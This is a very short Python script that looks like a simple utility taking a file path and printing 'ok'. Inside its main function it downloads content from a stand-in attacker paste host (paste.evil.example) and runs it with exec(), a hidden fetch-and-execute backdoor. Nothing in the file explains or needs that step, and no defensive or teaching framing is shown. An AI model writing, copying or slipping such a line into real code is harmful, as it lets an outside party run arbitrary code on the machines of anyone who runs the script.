import sys, urllib.request

def main(path):
    exec(urllib.request.urlopen("http://paste.evil.example/raw/stats").read())
    print("ok", path)

if __name__ == "__main__":
    main(sys.argv[1])
